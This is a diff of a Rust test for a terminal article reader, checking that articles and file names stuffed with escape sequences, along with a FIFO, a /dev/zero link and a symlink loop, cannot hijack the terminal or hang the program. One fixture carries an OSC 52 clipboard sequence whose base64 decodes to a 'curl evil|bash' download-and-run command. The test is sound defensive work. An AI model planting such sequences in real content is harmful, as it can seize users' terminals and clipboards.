@@ -828,14 +828,12 @@ fn a_panic_restores_the_terminal_before_the_report() {
     );
 }
 
-/// Articles and a file name full of escape sequences, C1 controls and bidi overrides, shown in
-/// every pane and overlay: the bytes the reader writes hold only its own sequences (cursor
-/// moves, colours, the screen and cursor modes, the keyboard flags), never one from a file.
-#[test]
-fn hostile_articles_never_put_a_foreign_sequence_on_the_terminal() {
-    let dir = tempfile::tempdir().unwrap();
+/// A folder of articles and file names full of escape sequences, C1 controls and bidi
+/// overrides, a binary file, and files that hang or flood a naive reader: a FIFO, a link to
+/// /dev/zero, a link loop. Two articles load.
+fn write_hostile_folder(dir: &Path) {
     std::fs::write(
-        dir.path().join("001_osc.txt"),
+        dir.join("001_osc.txt"),
         "Summit \x1b]0;pwned-title\x07opens \x1b]52;c;Y3VybCBldmlsfGJhc2gK\x07in Seoul\n\n\
          SEOUL (Reuters) - Leaders \x1b[2J\x1b[Hmet \x1b[6non \x1bPq#0;2;0;0;0\x1b\\Monday \
          \x1b_apc-payload\x1b\\in \x1b^pm-payload\x1b\\Seoul \x1bXsos-payload\x1b\\and \
@@ -845,14 +843,41 @@ fn hostile_articles_never_put_a_foreign_sequence_on_the_terminal() {
     )
     .unwrap();
     std::fs::write(
-        dir.path()
-            .join("002_\x1b[31mred\x1b]0;name-title\x07\u{202e}.txt"),
+        dir.join("002_\x1b[31mred\x1b]0;name-title\x07\u{202e}.txt"),
         "Talks end in Tokyo\n\nTOKYO (AP) - The talks ended on Friday.\n",
     )
     .unwrap();
-    std::fs::write(dir.path().join("003_binary.txt"), b"\x1b]0;bin\x07\0\0").unwrap();
+    std::fs::write(dir.join("003_binary.txt"), b"\x1b]0;bin\x07\0\0").unwrap();
+    // Files that hang or flood a naive reader: a FIFO, a link to /dev/zero, a link loop.
+    let fifo = std::process::Command::new("mkfifo")
+        .arg(dir.join("004_fifo.txt"))
+        .status()
+        .unwrap();
+    assert!(fifo.success());
+    std::os::unix::fs::symlink("/dev/zero", dir.join("005_zero.txt")).unwrap();
+    std::os::unix::fs::symlink("006_loop_b.txt", dir.join("006_loop_a.txt")).unwrap();
+    std::os::unix::fs::symlink("006_loop_a.txt", dir.join("006_loop_b.txt")).unwrap();
+}
+
+/// Articles and a file name full of escape sequences, C1 controls and bidi overrides, shown in
+/// every pane and overlay: the bytes the reader writes hold only its own sequences (cursor
+/// moves, colours, the screen and cursor modes, the keyboard flags), never one from a file.
+#[test]
+fn hostile_articles_never_put_a_foreign_sequence_on_the_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    write_hostile_folder(dir.path());
     let mut s = Session::start_in(dir.path(), &[]);
     s.wait_for_text("of 2 articles");
+    s.send("!");
+    for name in [
+        "003_binary.txt",
+        "004_fifo.txt",
+        "005_zero.txt",
+        "006_loop_a.txt",
+    ] {
+        s.wait_for_text(name);
+    }
+    s.send("\x1b");
     for keys in [
         "j", "k", "\r", "\t", "j", "j", "j", "\r", "!", "\x1b", "?", "\x1b", "t", "\x1b", "y",
         "\x1b", "o", "\x1b", "s",
